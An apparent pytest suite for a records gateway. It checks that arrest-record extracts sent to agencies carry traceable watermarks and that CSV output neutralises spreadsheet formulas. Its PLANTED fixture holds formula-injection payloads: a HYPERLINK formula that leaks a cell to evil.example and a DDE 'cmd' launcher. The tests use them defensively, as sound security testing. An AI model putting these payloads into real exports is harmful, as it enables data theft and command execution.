"""Extracts that stay traceable, on SQLite and PostgreSQL records databases: the watermark
binds the released values, ``trace`` reads what spreadsheets write, and CSV is safe to open."""

from __future__ import annotations

import codecs
import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import Engine, update

from sanctuarygate.audit.log import DecisionLog
from sanctuarygate.demo.records import generate
from sanctuarygate.gateway.keys import issue_key
from sanctuarygate.gateway.plan import parse_spec
from sanctuarygate.gateway.records import arrests, persons
from sanctuarygate.gateway.release import Gateway, release
from sanctuarygate.gateway.trace import TraceReport, trace_file
from sanctuarygate.policy.default import default_decider
from sanctuarygate.store.db import make_engine, upgrade

QUERY: dict[str, Any] = {"dataset": "cpd-arrests", "fields": ["*"],
                         "purpose": "criminal-investigation", "limit": 12}
#: Values a booking clerk could be handed, planted in the records (charge, statute, name).
PLANTED = {1: ('=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0"),
           2: ("-2+3", "@SUM(1+1)*cmd"),
           3: ("\tTAB FIRST", "\rCR FIRST"),
           4: ("'=ALREADY QUOTED", "'-1")}
DANGER = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def gw(db_engine: Engine, tmp_path: Path) -> Iterator[Gateway]:
    generate(db_engine, 40, seed=7)
    engine = make_engine(f"sqlite:///{tmp_path / 'log.db'}")
    upgrade(engine)
    log = DecisionLog(engine, origin="test.example/trace", data_dir=tmp_path / "data")
    yield Gateway(default_decider(), log, db_engine, "chicago", tmp_path / "data")
    engine.dispose()


def extract(gw: Gateway, agency: str, **query: Any) -> str:
    with gw.log.engine.begin() as conn:
        key = issue_key(conn, agency, "trace test").info
    spec = parse_spec({**QUERY, **query}, gw.decider.library.catalog)
    done = release(gw, key, spec, via="test: trace")
    return b"".join(done.chunks).decode()


def trace_text(gw: Gateway, content: str | bytes, tmp_path: Path, name: str) -> TraceReport:
    leak = tmp_path / name
    leak.write_bytes(content if isinstance(content, bytes) else content.encode())
    lib = gw.decider.library
    return trace_file(leak, gw.watermark_key(), [a.id for a in lib.directory], lib.catalog)


def csv_table(content: str) -> list[list[str]]:
    return [r for r in csv.reader(io.StringIO(content, newline="")) if r and
            not r[0].startswith("#")]


def test_an_extract_without_the_key_column_is_traced(gw: Gateway, tmp_path: Path) -> None:
    content = extract(gw, "DEA", fields=["name", "charge", "arrest_date"])
    assert '"arrest_id"' not in content
    report = trace_text(gw, content, tmp_path, "leak.jsonl")
    assert dict(report.recipients) == {("DEA", "cpd-arrests"): 12} and report.untraceable == 0


def test_tags_copied_onto_another_recipients_rows_do_not_verify(gw: Gateway,
                                                                tmp_path: Path) -> None:
    """FBI got two columns, DEA every column of the same rows: FBI's tags pasted onto DEA's
    rows (same keys) name no one, and DEA's own rows still name DEA."""
    fbi = [json.loads(x) for x in extract(gw, "FBI", fields=["arrest_id", "charge"]).splitlines()]
    dea = [json.loads(x) for x in extract(gw, "DEA").splitlines()]
    assert [r["arrest_id"] for r in fbi[:-1]] == [r["arrest_id"] for r in dea[:-1]]
    forged = [{**d, "_wm": f["_wm"]} for d, f in zip(dea[:-1], fbi[:-1], strict=True)]
    report = trace_text(gw, "\n".join(map(json.dumps, forged)), tmp_path, "forged.jsonl")
    assert not report.recipients and report.untraceable == 12
    own = trace_text(gw, "\n".join(map(json.dumps, dea[:-1])), tmp_path, "own.jsonl")
    assert dict(own.recipients) == {("DEA", "cpd-arrests"): 12}
    edited = [{**d, "charge": "EDITED"} for d in dea[:3]]
    assert trace_text(gw, "\n".join(map(json.dumps, edited)), tmp_path, "e.jsonl").untraceable == 3


def plant(gw: Gateway) -> None:
    with gw.records.begin() as conn:
        for arrest_id, (charge, statute) in PLANTED.items():
            conn.execute(update(arrests).where(arrests.c.arrest_id == arrest_id)
                         .values(charge=charge, statute=statute))
        conn.execute(update(persons).where(persons.c.person_id.in_(
            conn.execute(arrests.select().with_only_columns(arrests.c.person_id)
                         .where(arrests.c.arrest_id == 5)).scalars().all()))
            .values(first_name="=1+2", last_name="@X"))


def test_csv_neutralises_formulas_and_trace_reads_them_back(gw: Gateway, tmp_path: Path) -> None:
    plant(gw)
    content = extract(gw, "FBI", format="csv", sort="arrest_id")
    table = csv_table(content)
    assert all(len(r) == len(table[0]) for r in table)  # a CR in a value does not end a row
    header, rows = table[0], {int(r[0]): dict(zip(table[0], r, strict=True)) for r in table[1:]}
    for arrest_id, (charge, statute) in PLANTED.items():
        assert rows[arrest_id]["charge"] == "'" + charge
        assert rows[arrest_id]["statute"] == "'" + statute
    assert rows[5]["name"] == "'=1+2 @X"
    assert not [c for r in table[1:] for c in r if c.startswith(DANGER)]
    trailer = json.loads(content.rstrip("\r\n").rsplit("\n", 1)[1].removeprefix("# "))
    assert any("OWASP" in line for line in trailer["_trailer"]["about"])
    assert any("_wm" in line for line in trailer["_trailer"]["about"])
    report = trace_text(gw, content, tmp_path, "leak.csv")
    assert dict(report.recipients) == {("FBI", "cpd-arrests"): 12}, report
    assert header[-1] == "_wm"


def spreadsheet(content: str, delimiter: str) -> str:
    """The extract as a spreadsheet saves it again: another delimiter, every cell quoted,
    CRLF, upper-case hex, and no trailer line."""
    out = io.StringIO(newline="")
    writer = csv.writer(out, delimiter=delimiter, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    table = csv_table(content)
    wm = table[0].index("_wm")
    for i, row in enumerate(table):
        writer.writerow([c.upper() if i and j == wm else c for j, c in enumerate(row)])
    return out.getvalue()


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_trace_reads_what_spreadsheets_write(gw: Gateway, tmp_path: Path, delimiter: str) -> None:
    with gw.records.begin() as conn:  # a quoted multi-line value whose 2nd line looks like a trailer
        conn.execute(update(arrests).where(arrests.c.arrest_id == 2)
                     .values(charge='BURGLARY\n# {"_trailer": "not one"}'))
    content = extract(gw, "DEA", format="csv", sort="arrest_id")
    assert '\n# {""_trailer"": ' in content  # the continuation line of a quoted value
    assert dict(trace_text(gw, content, tmp_path, "as-sent.csv").recipients) == \
        {("DEA", "cpd-arrests"): 12}
    saved = spreadsheet(content, delimiter)
    assert saved.count("\r\n") > 12
    for name, data in [("utf8.csv", saved.encode()),
                       ("bom.csv", codecs.BOM_UTF8 + saved.encode()),
                       ("utf16.txt", saved.encode("utf-16"))]:
        report = trace_text(gw, data, tmp_path, name)
        assert dict(report.recipients) == {("DEA", "cpd-arrests"): 12}, (name, report)
        assert report.rows == 12 and report.untraceable == 0


def test_a_column_the_spreadsheet_added_is_set_aside(gw: Gateway, tmp_path: Path) -> None:
    content = extract(gw, "DEA", format="csv", fields=["name", "charge"])
    table = csv_table(content)
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerow([*table[0], "Notes"])
    writer.writerows([*row, "called 3/4"] for row in table[1:])
    report = trace_text(gw, out.getvalue(), tmp_path, "notes.csv")
    assert dict(report.recipients) == {("DEA", "cpd-arrests"): 12}
    only_notes = trace_text(gw, "Notes\nhello\n", tmp_path, "only.csv")
    assert not only_notes.found and only_notes.untraceable == 1
